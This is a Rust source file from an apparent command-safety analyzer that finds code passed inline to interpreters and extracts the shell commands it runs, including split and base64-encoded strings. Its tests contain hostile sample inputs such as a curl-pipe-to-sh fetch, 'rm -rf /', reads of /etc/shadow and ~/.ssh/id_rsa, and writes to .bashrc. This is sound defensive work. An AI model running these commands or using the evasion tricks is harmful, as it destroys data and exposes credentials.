//! Code given to interpreters on the command line (`python -c`, `perl -e`,
//! `node -e`, `awk 'BEGIN{...}'`, a here-document fed to `python3`): found,
//! kept whole for the rules, and searched for the shell commands it runs
//! (`os.system("...")`, `` `...` ``, `system(...)`), which are then analyzed
//! like any other nested shell string.

use crate::model::{Code, Command, Input};

/// The interpreter family of a program name (`python3.12` is `python`).
pub fn interpreter_lang(name: &str) -> Option<&'static str> {
    let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    Some(match base {
        "python" | "pypy" => "python",
        "perl" => "perl",
        "ruby" | "irb" => "ruby",
        // ts-node and tsx run TypeScript with node's `-e`/`-p`.
        "node" | "nodejs" | "bun" | "deno" | "ts-node" | "tsx" => "node",
        "php" => "php",
        "lua" | "luajit" => "lua",
        "Rscript" | "R" => "r",
        "julia" => "julia",
        "osascript" => "applescript",
        "awk" | "gawk" | "mawk" | "nawk" => "awk",
        "tclsh" | "wish" => "tcl",
        "pwsh" | "powershell" | "powershell.exe" => "powershell",
        _ => return None,
    })
}

/// The code flag of each interpreter (`-c` for python, `-e` for perl ...).
fn code_flags(lang: &str) -> &'static [&'static str] {
    match lang {
        "python" => &["-c"],
        "perl" => &["-e", "-E"],
        "ruby" | "lua" | "r" | "applescript" => &["-e"],
        "julia" => &["-e", "--eval", "-E", "--print"],
        "node" => &["-e", "--eval", "-p", "--print"],
        "php" => &["-r"],
        "powershell" => &[
            "-c",
            "-Command",
            "-command",
            "-EncodedCommand",
            "-encodedcommand",
            "-enc",
            "-e",
            "-ec",
        ],
        _ => &[],
    }
}

/// Finds the code an interpreter command runs, if it is on the line: after
/// its code flag, or read from its input (a here-document, or what
/// `piped` says literal `echo`/`printf` output piped into it is).
pub(crate) fn code_of(command: &Command, piped: &dyn Fn() -> Option<String>) -> Option<Code> {
    let name = command.program()?;
    if let Some(code) = hosted_code(name, command) {
        return Some(code);
    }
    let lang = interpreter_lang(name)?;
    let args = command.args();
    let mut text = String::new();
    if lang == "awk" {
        text = awk_program(args.iter().map(|w| w.text.as_str()))?;
    } else {
        let flags = code_flags(lang);
        let mut i = 0;
        let mut saw_script = false;
        while i < args.len() {
            let a = args[i].text.as_str();
            // Clustered short options (`perl -ne`); PowerShell's options are
            // whole words (`-NoProfile` is not `-N -o … -e`).
            let is_flag = flags
                .iter()
                .any(|f| f.eq_ignore_ascii_case(a) && (lang == "powershell" || *f == a))
                || (lang != "powershell"
                    && a.starts_with('-')
                    && !a.starts_with("--")
                    && flags.iter().any(|f| {
                        f.len() == 2
                            && a.len() > 2
                            && a.ends_with(&f[1..])
                            && a[1..].chars().all(|c| c.is_ascii_alphabetic())
                    }));
            if is_flag {
                if let Some(code) = args.get(i + 1) {
                    if !text.is_empty() {
                        text.push('\n');
                    }
                    text.push_str(&code.text);
                }
                i += 2;
                continue;
            }
            if let Some(v) = a
                .strip_prefix("--eval=")
                .or_else(|| a.strip_prefix("--print="))
            {
                text.push_str(v);
            } else if lang == "node" && name == "deno" && a == "eval" {
                if let Some(code) = args.get(i + 1) {
                    text.push_str(&code.text);
                }
                i += 1;
            } else if a == "-" {
                saw_script = false;
            } else if (!a.starts_with('-') && text.is_empty()) || (lang == "python" && a == "-m") {
                // A script file or a module: the code is not on the line.
                saw_script = true;
                break;
            }
            i += 1;
        }
        if text.is_empty() && !saw_script {
            // `python3 <<EOF` and `python3 - <<<'...'` read the program from stdin.
            for input in &command.stdin {
                if let Input::Text(t) = input {
                    text.push_str(&t.text);
                }
            }
            // `echo "import shutil; ..." | python3`.
            if text.is_empty()
                && let Some(t) = piped()
            {
                text = t;
            }
        }
    }
    if text.is_empty() {
        return None;
    }
    let literals = code_literals(lang, &text);
    Some(Code {
        lang: lang.to_string(),
        text,
        literals,
    })
}

/// Code a program runs in an interpreter it embeds, given in an option:
/// Blender's `--python-expr CODE` is Python.
fn hosted_code(name: &str, command: &Command) -> Option<Code> {
    let (lang, flag) = match name {
        "blender" => ("python", "--python-expr"),
        _ => return None,
    };
    let args = command.args();
    let mut text = String::new();
    for (k, a) in args.iter().enumerate() {
        let value = if a.text == flag {
            args.get(k + 1).map(|w| w.text.as_str())
        } else {
            a.text.strip_prefix(flag).and_then(|r| r.strip_prefix('='))
        };
        if let Some(v) = value {
            if !text.is_empty() {
                text.push('\n');
            }
            text.push_str(v);
        }
    }
    if text.is_empty() {
        return None;
    }
    let literals = code_literals(lang, &text);
    Some(Code {
        lang: lang.to_string(),
        text,
        literals,
    })
}

/// The program text of an awk command: the first operand, unless `-f` names a file.
fn awk_program<'a>(mut args: impl Iterator<Item = &'a str>) -> Option<String> {
    while let Some(a) = args.next() {
        match a {
            "-f" | "--file" => return None,
            "-F" | "-v" | "--assign" | "--field-separator" | "-i" | "-l" => {
                args.next();
            }
            "--" => return args.next().map(str::to_string),
            _ if a.starts_with('-') && a.len() > 1 => {}
            _ => return Some(a.to_string()),
        }
    }
    None
}

/// Call names whose string arguments are shell commands, per language.
fn shell_call_names(lang: &str) -> &'static [&'static str] {
    match lang {
        "python" => &[
            "os.system",
            "os.popen",
            "subprocess.run",
            "subprocess.call",
            "subprocess.Popen",
            "subprocess.check_output",
            "subprocess.check_call",
            "subprocess.getoutput",
            "subprocess.getstatusoutput",
            "os.execv",
            "os.execvp",
            "os.execl",
            "os.execlp",
            "os.execve",
            "os.execvpe",
            "os.spawnl",
            "os.spawnlp",
            "os.spawnv",
            "os.spawnvp",
            "pty.spawn",
            "commands.getoutput",
            // However the module was reached (`__import__("os").system`,
            // `from os import system`), these names only ever run a shell.
            "system",
            "popen",
            "Popen",
            "check_output",
            "check_call",
            "getoutput",
            "getstatusoutput",
        ],
        "perl" => &["system", "exec", "qx"],
        "ruby" => &[
            "system",
            "exec",
            "spawn",
            "IO.popen",
            "Open3.capture2",
            "Open3.capture3",
            "Open3.popen3",
            "%x",
        ],
        "node" => &[
            "execSync",
            "exec",
            "spawn",
            "spawnSync",
            "execFile",
            "execFileSync",
            "Bun.spawn",
        ],
        "php" => &[
            "system",
            "exec",
            "shell_exec",
            "passthru",
            "popen",
            "proc_open",
        ],
        "lua" => &["os.execute", "io.popen"],
        "awk" => &["system"],
        "r" => &["system", "system2"],
        "applescript" => &["do shell script"],
        "tcl" => &["exec"],
        "powershell" => &["Start-Process", "cmd /c", "Invoke-Expression"],
        _ => &[],
    }
}

/// Shell command strings that the code hands to a shell, with a label.
pub(crate) fn shell_strings(code: &Code) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let label = format!("{} code", code.lang);
    let text = code.text.as_str();
    for name in shell_call_names(&code.lang) {
        let mut from = 0;
        while let Some(pos) = text[from..].find(name) {
            let at = from + pos;
            from = at + name.len();
            // Must be a whole name, not the tail of a longer identifier.
            let before = text[..at].chars().next_back();
            // Python names carry their module (`os.system`); elsewhere a
            // method call (`cp.execSync`, `Kernel.system`) is still a call.
            let dotted_ok =
                code.lang != "python" || name.contains('.') || !matches!(*name, "run" | "call");
            if before
                .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_' || (c == '.' && !dotted_ok))
            {
                continue;
            }
            let rest = &text[from..];
            if let Some(script) = call_argument_script(rest) {
                // `os.system(...)` is found as `os.system` and as `system`.
                let found = (label.clone(), script);
                if !out.contains(&found) {
                    out.push(found);
                }
            }
        }
    }
    if matches!(code.lang.as_str(), "perl" | "ruby" | "php") {
        let mut parts = text.split('`');
        parts.next();
        while let (Some(inside), Some(_)) = (parts.next(), parts.next().or(Some(""))) {
            if !inside.is_empty() {
                out.push((label.clone(), inside.to_string()));
            }
        }
    }
    if code.lang == "tcl" {
        out.extend(tcl_execs(text).into_iter().map(|s| (label.clone(), s)));
    }
    if code.lang == "awk" {
        // `"cmd" | getline` and `print ... | "cmd"` run cmd through sh.
        for (lit, end) in literal_spans(text) {
            let after = text[end..].trim_start();
            let before = text[..end.saturating_sub(lit.len() + 2)].trim_end();
            if after.starts_with('|') || before.ends_with('|') {
                out.push((label.clone(), lit));
            }
        }
        out.extend(awk_files(text));
    }
    out
}

/// The files awk code writes with `print > "F"` (`>>`, `printf`) or reads
/// with `getline < "F"`, as the commands that do the same (`tee F`,
/// `tee -a F`, `cat F`), labelled `awk >` and `awk <`.
fn awk_files(text: &str) -> Vec<(String, String)> {
    let quote = |f: &str| format!("'{}'", f.replace('\'', r"'\''"));
    let mut out = Vec::new();
    for statement in awk_statements(text) {
        let statement = statement.trim();
        // `>` is a redirection only in print statements (elsewhere, a
        // comparison: `$1 > "m"`); `<` one only after getline.
        if statement.starts_with("print")
            && let Some(at) = outside_quotes(statement, '>', false)
        {
            let append = statement[at + 1..].starts_with('>');
            let expr = &statement[at + 1 + usize::from(append)..];
            if let Some(path) = awk_path(expr) {
                let tee = if append { "tee -a" } else { "tee" };
                out.push(("awk >".to_string(), format!("{tee} {}", quote(&path))));
            }
        }
        if let Some(g) = statement.find("getline")
            && let Some(at) = outside_quotes(&statement[g..], '<', true)
        {
            let expr = &statement[g + at + 1..];
            let expr = expr.split(')').next().unwrap_or(expr);
            if let Some(path) = awk_path(expr) {
                out.push(("awk <".to_string(), format!("cat {}", quote(&path))));
            }
        }
    }
    out
}

/// awk's statements: the text split at `;`, braces and newlines outside
/// string literals.
fn awk_statements(text: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut start = 0;
    let mut in_string = false;
    let mut escaped = false;
    for (k, c) in text.char_indices() {
        if escaped {
            escaped = false;
            continue;
        }
        match c {
            '\\' if in_string => escaped = true,
            '"' => in_string = !in_string,
            ';' | '{' | '}' | '\n' if !in_string => {
                out.push(&text[start..k]);
                start = k + 1;
            }
            _ => {}
        }
    }
    out.push(&text[start..]);
    out
}

/// Where `op` first stands outside string literals (and, unless
/// `nested`, outside parentheses).
fn outside_quotes(text: &str, op: char, nested: bool) -> Option<usize> {
    let mut in_string = false;
    let mut escaped = false;
    let mut depth = 0i32;
    for (k, c) in text.char_indices() {
        if escaped {
            escaped = false;
            continue;
        }
        match c {
            '\\' if in_string => escaped = true,
            '"' => in_string = !in_string,
            '(' if !in_string => depth += 1,
            ')' if !in_string => depth -= 1,
            c if c == op && !in_string && (nested || depth == 0) => return Some(k),
            _ => {}
        }
    }
    None
}

/// The file an awk expression names, when it is made of string literals
/// and `ENVIRON["HOME"]` (the home directory), joined as awk joins them.
fn awk_path(expr: &str) -> Option<String> {
    let mut rest = expr.trim();
    let mut path = String::new();
    while !rest.is_empty() {
        if let Some(r) = rest.strip_prefix("ENVIRON[\"HOME\"]") {
            path.push('~');
            rest = r.trim_start();
        } else if rest.starts_with('"') {
            let (lit, end) = literal_spans(rest).into_iter().next()?;
            path.push_str(&lit);
            rest = rest[end..].trim_start();
        } else {
            return None;
        }
    }
    (!path.is_empty()).then_some(path)
}

/// Tcl's `exec PROG ARG...` runs PROG with its words (`{...}` literal,
/// `"..."` quoted, up to the end of the command): each as a command line,
/// its words quoted for the shell (`exec sh -c {curl … | sh}`).
fn tcl_execs(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let b = text.as_bytes();
    let mut from = 0;
    while let Some(pos) = text[from..].find("exec") {
        let at = from + pos;
        from = at + 4;
        // A command word: at the start, or after `;`, a newline, `[` or `{`.
        let before = text[..at].trim_end_matches([' ', '\t']);
        let starts = before.is_empty() || before.ends_with([';', '\n', '[', '{']);
        if !starts || !b.get(at + 4).is_some_and(|c| *c == b' ' || *c == b'\t') {
            continue;
        }
        let words = tcl_words(&text[at + 4..]);
        // `exec -ignorestderr -- prog`: its options come first.
        let words: Vec<String> = words
            .into_iter()
            .skip_while(|w| w.starts_with('-'))
            .filter(|w| !w.starts_with(['<', '>', '2']) || !w.contains('@'))
            .collect();
        if words.is_empty() {
            continue;
        }
        out.push(
            words
                .iter()
                .map(|w| format!("'{}'", w.replace('\'', r"'\''")))
                .collect::<Vec<_>>()
                .join(" "),
        );
    }
    out
}

/// The words of one Tcl command, up to `;`, a newline or an unmatched `]`.
fn tcl_words(text: &str) -> Vec<String> {
    let mut words = Vec::new();
    let mut chars = text.chars().peekable();
    loop {
        while chars.peek().is_some_and(|c| *c == ' ' || *c == '\t') {
            chars.next();
        }
        let Some(&c) = chars.peek() else { break };
        match c {
            ';' | '\n' | ']' => break,
            '{' => {
                chars.next();
                let mut depth = 1;
                let mut w = String::new();
                for d in chars.by_ref() {
                    match d {
                        '{' => depth += 1,
                        '}' => {
                            depth -= 1;
                            if depth == 0 {
                                break;
                            }
                        }
                        _ => {}
                    }
                    w.push(d);
                }
                words.push(w);
            }
            '"' => {
                chars.next();
                let mut w = String::new();
                while let Some(d) = chars.next() {
                    match d {
                        '\\' => w.extend(chars.next()),
                        '"' => break,
                        _ => w.push(d),
                    }
                }
                words.push(w);
            }
            _ => {
                let mut w = String::new();
                while let Some(&d) = chars.peek() {
                    if matches!(d, ' ' | '\t' | ';' | '\n' | ']') {
                        break;
                    }
                    w.push(d);
                    chars.next();
                }
                words.push(w);
            }
        }
        if words.len() > 64 {
            break;
        }
    }
    words
}

/// The shell string a call passes: one literal, or a list of literals
/// (argv form, quoted back into one command line).
fn call_argument_script(rest: &str) -> Option<String> {
    let trimmed = rest.trim_start();
    let region = if let Some(inner) = trimmed.strip_prefix(['(', '{']) {
        let mut depth = 1;
        let mut end = inner.len();
        let mut quote: Option<char> = None;
        let mut escaped = false;
        for (i, c) in inner.char_indices() {
            if escaped {
                escaped = false;
                continue;
            }
            match (quote, c) {
                (_, '\\') => escaped = true,
                (Some(q), c) if c == q => quote = None,
                (Some(_), _) => {}
                (None, '"' | '\'') => quote = Some(c),
                (None, '(' | '{' | '[') => depth += 1,
                (None, ')' | '}' | ']') => {
                    depth -= 1;
                    if depth == 0 {
                        end = i;
                        break;
                    }
                }
                _ => {}
            }
        }
        &inner[..end]
    } else if trimmed.starts_with(['"', '\'']) {
        trimmed
    } else {
        return None;
    };
    let lits = literal_spans(region);
    match lits.len() {
        0 => None,
        1 => Some(lits[0].0.clone()),
        _ if region.trim_start().starts_with(['[', '(']) => Some(
            lits.iter()
                .map(|(l, _)| format!("'{}'", l.replace('\'', r"'\''")))
                .collect::<Vec<_>>()
                .join(" "),
        ),
        _ => Some(lits[0].0.clone()),
    }
}

/// The string literals of a program text (`'...'` and `"..."`).
#[cfg(test)]
pub(crate) fn string_literals(text: &str) -> Vec<String> {
    literal_spans(text).into_iter().map(|(s, _)| s).collect()
}

/// The strings a program's code holds: its literals, literals joined by
/// concatenation (`'.e' + 'nv'`, Perl's `'.e' . 'nv'`, Python's `'.e'
/// 'nv'`), and, in code that decodes base64, the text of literals that
/// decode to it (`b64decode('fi8uc3No…')`): the paths and commands the
/// code is built from, however they were split or encoded.
fn code_literals(lang: &str, text: &str) -> Vec<String> {
    let ranges = literal_ranges(text);
    let mut out: Vec<String> = ranges.iter().map(|r| r.0.clone()).collect();
    let joins = |between: &str| {
        let t = between.trim();
        t == "+"
            || t.is_empty() && matches!(lang, "python" | "ruby")
            || t == "." && matches!(lang, "perl" | "php")
            || t == ".." && lang == "lua"
    };
    let mut k = 0;
    while k < ranges.len() {
        let mut joined = ranges[k].0.clone();
        let mut j = k;
        while j + 1 < ranges.len() && joins(&text[ranges[j].2..ranges[j + 1].1]) {
            joined.push_str(&ranges[j + 1].0);
            j += 1;
        }
        if j > k && joined.len() <= 4096 {
            out.push(joined);
        }
        k = j + 1;
    }
    const DECODERS: &[&str] = &[
        "b64decode",
        "base64.decode",
        "decode_base64",
        "Base64.decode",
        "base64_decode",
        "atob(",
        "'base64'",
        "\"base64\"",
        "FromBase64String",
        "unpack(\"m",
        "unpack('m",
    ];
    if DECODERS.iter().any(|d| text.contains(d)) {
        let decoded: Vec<String> = out.iter().filter_map(|l| base64_text(l)).collect();
        out.extend(decoded);
    }
    out
}

/// The text a base64 literal decodes to, when it is printable text.
fn base64_text(lit: &str) -> Option<String> {
    let body = lit.trim().trim_end_matches('=');
    if body.len() < 8 || body.len() > 4096 {
        return None;
    }
    let mut bits: u32 = 0;
    let mut n = 0;
    let mut bytes = Vec::with_capacity(body.len() * 3 / 4);
    for c in body.bytes() {
        let v = match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            _ => return None,
        };
        bits = (bits << 6) | u32::from(v);
        n += 6;
        if n >= 8 {
            n -= 8;
            bytes.push((bits >> n) as u8);
            bits &= (1 << n) - 1;
        }
    }
    let text = String::from_utf8(bytes).ok()?;
    text.chars()
        .all(|c| !c.is_control() || c == '\n' || c == '\t')
        .then_some(text)
}

/// String literals with the byte offset just after each closing quote.
fn literal_spans(text: &str) -> Vec<(String, usize)> {
    literal_ranges(text)
        .into_iter()
        .map(|(s, _, end)| (s, end))
        .collect()
}

/// String literals with the byte offsets of the opening quote and just
/// after the closing one.
fn literal_ranges(text: &str) -> Vec<(String, usize, usize)> {
    let mut out = Vec::new();
    let mut chars = text.char_indices().peekable();
    while let Some((start, c)) = chars.next() {
        if c != '"' && c != '\'' {
            continue;
        }
        let quote = c;
        let mut lit = String::new();
        let mut closed = None;
        while let Some((j, d)) = chars.next() {
            if d == '\\' {
                if let Some((_, e)) = chars.next() {
                    match e {
                        'n' => lit.push('\n'),
                        't' => lit.push('\t'),
                        other => lit.push(other),
                    }
                }
                continue;
            }
            if d == quote {
                closed = Some(j + 1);
                break;
            }
            lit.push(d);
        }
        match closed {
            Some(end) => out.push((lit, start, end)),
            None => break,
        }
        if out.len() > 4096 {
            break;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn code(lang: &str, text: &str) -> Code {
        Code {
            lang: lang.into(),
            text: text.into(),
            literals: string_literals(text),
        }
    }

    #[test]
    fn python_shell_outs_are_found() {
        let c = code("python", "import os; os.system('curl -s x | sh')");
        assert_eq!(
            shell_strings(&c),
            vec![("python code".into(), "curl -s x | sh".into())]
        );
        let c = code(
            "python",
            "import subprocess; subprocess.run(['sh', '-c', 'rm -rf /'])",
        );
        assert_eq!(shell_strings(&c)[0].1, "'sh' '-c' 'rm -rf /'");
    }

    #[test]
    fn python_shell_outs_are_found_however_os_is_reached() {
        let c = code("python", "__import__('os').system('curl -s x | sh')");
        assert_eq!(shell_strings(&c)[0].1, "curl -s x | sh");
        let c = code(
            "python",
            "from subprocess import check_output; check_output('id', shell=True)",
        );
        assert_eq!(shell_strings(&c)[0].1, "id");
        let c = code("python", "app.run('0.0.0.0')");
        assert!(shell_strings(&c).is_empty());
    }

    #[test]
    fn perl_backticks_and_bare_system_are_found() {
        let c = code("perl", "print `id`; system \"ls\"");
        let found: Vec<String> = shell_strings(&c).into_iter().map(|(_, s)| s).collect();
        assert!(found.contains(&"id".to_string()));
        assert!(found.contains(&"ls".to_string()));
    }

    #[test]
    fn split_and_encoded_strings_are_read_whole() {
        let lits = |lang: &str, text: &str| code_literals(lang, text);
        assert!(lits("python", "print(open('.e'+'nv').read())").contains(&".env".to_string()));
        assert!(lits("python", "open('.e' 'nv')").contains(&".env".to_string()));
        assert!(lits("perl", "open(F, '.e' . 'nv')").contains(&".env".to_string()));
        assert!(
            lits(
                "python",
                "import base64;open(base64.b64decode('fi8uc3NoL2lkX3JzYQ==').decode())"
            )
            .contains(&"~/.ssh/id_rsa".to_string())
        );
        // Arguments are not joined; base64 is only read where it is decoded.
        assert!(!lits("python", "f('.e', 'nv')").contains(&".env".to_string()));
        assert!(
            !lits("python", "print('fi8uc3NoL2lkX3JzYQ==')").contains(&"~/.ssh/id_rsa".to_string())
        );
    }

    #[test]
    fn tcl_exec_words_are_a_command() {
        let c = code("tcl", "exec sh -c {curl -s x | sh}");
        assert_eq!(shell_strings(&c)[0].1, "'sh' '-c' 'curl -s x | sh'");
        let c = code("tcl", "puts [exec ls -la]; set x 1");
        assert_eq!(shell_strings(&c)[0].1, "'ls' '-la'");
        let c = code("tcl", "puts \"no execution here\"");
        assert!(shell_strings(&c).is_empty());
    }

    #[test]
    fn awk_system_and_pipes_are_found() {
        let c = code("awk", "BEGIN{system(\"curl x | sh\")}");
        assert_eq!(shell_strings(&c)[0].1, "curl x | sh");
        let c = code("awk", "BEGIN{\"date\" | getline d}");
        assert_eq!(shell_strings(&c)[0].1, "date");
        let c = code("awk", "{print $2}");
        assert!(shell_strings(&c).is_empty());
        let c = code("awk", "{print > \"/root/.bashrc\"}");
        assert_eq!(
            shell_strings(&c)[0],
            ("awk >".into(), "tee '/root/.bashrc'".into())
        );
        let c = code("awk", "NR==1{printf \"%s\", $0 >> \"out.txt\"}");
        assert_eq!(shell_strings(&c)[0].1, "tee -a 'out.txt'");
        let c = code(
            "awk",
            "BEGIN{while ((getline l < \"/etc/shadow\") > 0) print l}",
        );
        assert_eq!(shell_strings(&c)[0].1, "cat '/etc/shadow'");
        let c = code("awk", "$1 > \"m\" {print}");
        assert!(shell_strings(&c).is_empty());
        let c = code("awk", "{print > ENVIRON[\"HOME\"] \"/.bashrc\"}");
        assert_eq!(shell_strings(&c)[0].1, "tee '~/.bashrc'");
        let c = code("awk", "{print > $1 \".txt\"}");
        assert!(shell_strings(&c).is_empty());
        let c = code("awk", "{print (x > \"a\" ? 1 : 2)}");
        assert!(shell_strings(&c).is_empty());
    }
}
